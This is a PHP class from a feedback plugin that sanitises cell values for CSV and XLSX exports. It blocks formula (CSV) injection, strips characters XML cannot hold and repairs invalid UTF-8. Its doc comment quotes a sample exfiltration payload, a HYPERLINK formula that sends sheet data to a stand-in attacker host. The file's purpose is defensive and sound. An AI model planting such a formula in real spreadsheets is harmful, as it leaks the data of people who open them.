<?php
/**
 * What may go into a spreadsheet cell.
 *
 * @package UserFeedback
 */

declare( strict_types=1 );

namespace UserFeedback\Export;

/**
 * Every value a visitor typed ends up in a cell that Excel, LibreOffice or Google Sheets opens.
 * A text starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run as a
 * formula by those programs when the file is a CSV, and by some when a user edits the cell: an
 * answer like `=HYPERLINK("https://evil.example/?"&A1,"Click")` would leak the sheet. So such a
 * text gets a leading apostrophe (OWASP "CSV injection"), in both formats, so both read the same.
 * Texts stay texts, numbers numbers: `007` and `12345678901234567890` keep every digit. Line
 * breaks become LF.
 *
 * A visitor can also type characters XML 1.0 cannot hold (U+FFFE, U+FFFF, C0 controls), and a
 * site with latin1 tables or a broken translation can hand over invalid UTF-8: one such
 * character written raw makes the whole XLSX unreadable. clean() removes them here, before the
 * formula check (so a hidden NUL cannot carry a formula past it) and for CSV too, so both
 * formats hold the same cell.
 */
final class Cell {

	/**
	 * The characters that make a spreadsheet read a cell as a formula (as keys: one isset()).
	 */
	private const TRIGGERS = array(
		'='  => true,
		'+'  => true,
		'-'  => true,
		'@'  => true,
		"\t" => true,
		"\r" => true,
	);

	/**
	 * What XML 1.0 forbids in a text already valid UTF-8: the C0 controls but tab, LF and CR, and
	 * U+FFFE and U+FFFF (in valid UTF-8, EF BF BE and EF BF BF can only be those two).
	 */
	private const FORBIDDEN = '/[\x00-\x08\x0B\x0C\x0E-\x1F]|\xEF\xBF[\xBE\xBF]/';

	/**
	 * The forbidden characters that mean a line break where texts are pasted from (a word
	 * processor's manual line break and page break): kept as line breaks rather than gluing two
	 * lines together.
	 */
	private const BREAKS = array(
		"\x0B" => "\n",
		"\x0C" => "\n",
	);

	/**
	 * Excel's limit on the characters in a cell (the writer refuses longer texts).
	 */
	public const MAX_CHARACTERS = 32767;

	/**
	 * A value ready to be written: numbers as they are, everything else as safe text. Called for
	 * every cell of an export (millions), so the common case — a short valid text — costs a few
	 * checks and no function call beyond them.
	 *
	 * @param mixed $value A value.
	 * @return int|float|string
	 */
	public static function value( $value ) {
		if ( is_string( $value ) ) {
			if ( '' === $value ) {
				return '';
			}
			if ( ! mb_check_encoding( $value, 'UTF-8' ) || 1 === preg_match( self::FORBIDDEN, $value ) ) {
				$value = self::clean( $value );
				if ( '' === $value ) {
					return '';
				}
			}
			if ( isset( self::TRIGGERS[ $value[0] ] ) ) {
				$value = "'" . $value;
			}
			if ( str_contains( $value, "\r" ) ) {
				// One line break in both formats (an XLSX reader turns a bare CR into LF anyway).
				$value = str_replace( array( "\r\n", "\r" ), "\n", $value );
			}
			if ( isset( $value[ self::MAX_CHARACTERS ] ) && mb_strlen( $value ) > self::MAX_CHARACTERS ) {
				$value = mb_substr( $value, 0, self::MAX_CHARACTERS );
			}
			return $value;
		}
		if ( is_int( $value ) || ( is_float( $value ) && is_finite( $value ) ) ) {
			return $value;
		}
		if ( null === $value || is_array( $value ) || is_object( $value ) ) {
			return '';
		}
		return self::text( is_bool( $value ) ? ( $value ? '1' : '0' ) : (string) $value );
	}

	/**
	 * A text that no spreadsheet runs, in valid UTF-8, cut to the cell limit.
	 *
	 * @param string $text Any text.
	 * @return string
	 */
	public static function text( string $text ): string {
		return (string) self::value( $text );
	}

	/**
	 * A text any XML 1.0 document can hold: valid UTF-8 (a broken sequence becomes U+FFFD), no
	 * character XML forbids. No formula check: for sheet names, and the first step of value().
	 *
	 * @param string $text Any bytes.
	 * @return string
	 */
	public static function clean( string $text ): string {
		if ( ! mb_check_encoding( $text, 'UTF-8' ) ) {
			$text = self::valid_utf8( $text );
		}
		if ( 1 === preg_match( self::FORBIDDEN, $text ) ) {
			$text = (string) preg_replace( self::FORBIDDEN, '', strtr( $text, self::BREAKS ) );
		}
		return $text;
	}

	/**
	 * Invalid UTF-8 made valid the way a background export's part file (JSON) does it, so an
	 * export holds the same cell whether it was written in the request or in the background: one
	 * U+FFFD per broken sequence.
	 *
	 * @param string $text Invalid UTF-8.
	 * @return string
	 */
	private static function valid_utf8( string $text ): string {
		$json = wp_json_encode( $text, JSON_INVALID_UTF8_SUBSTITUTE | JSON_UNESCAPED_UNICODE | JSON_UNESCAPED_SLASHES );
		$text = false === $json ? null : json_decode( $json );
		return is_string( $text ) ? $text : '';
	}
}
